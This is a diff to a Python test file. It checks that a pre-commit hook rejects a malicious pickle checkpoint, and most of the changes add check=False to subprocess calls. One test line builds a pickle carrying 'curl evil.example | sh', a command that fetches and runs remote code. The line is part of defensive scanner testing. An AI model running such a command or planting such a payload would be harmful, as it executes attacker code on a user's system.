@@ -26,7 +26,13 @@ def hook_env(
 
 def pre_commit(cwd: Path, env: dict[str, str], *argv: str) -> subprocess.CompletedProcess[str]:
     return subprocess.run(
-        [sys.executable, "-m", "pre_commit", *argv], cwd=cwd, env=env, capture_output=True, text=True, timeout=600
+        [sys.executable, "-m", "pre_commit", *argv],
+        cwd=cwd,
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=600,
+        check=False,
     )
 
 
@@ -65,11 +71,13 @@ def test_installed_hook_refuses_the_commit(tmp_path: Path, hook_env: tuple[Path,
     git(repo, "add", "-A")
     assert pre_commit(repo, env, "install").returncode == 0
     commit = ["git", "-c", "user.name=t", "-c", "user.email=t@example.invalid", "commit", "-q", "-m"]
-    first = subprocess.run([*commit, "clean"], cwd=repo, env=env, capture_output=True, text=True)
+    first = subprocess.run([*commit, "clean"], cwd=repo, env=env, capture_output=True, text=True, check=False)
     assert first.returncode == 0, first.stdout + first.stderr
     (repo / "checkpoint.pt").write_bytes(evil_pickle("curl evil.example | sh"))
     git(repo, "add", "checkpoint.pt")
-    second = subprocess.run([*commit, "add a checkpoint"], cwd=repo, env=env, capture_output=True, text=True)
+    second = subprocess.run(
+        [*commit, "add a checkpoint"], cwd=repo, env=env, capture_output=True, text=True, check=False
+    )
     assert second.returncode != 0
     assert "PKL001" in second.stdout + second.stderr
     log = subprocess.run(["git", "log", "--oneline"], cwd=repo, capture_output=True, text=True, check=True)
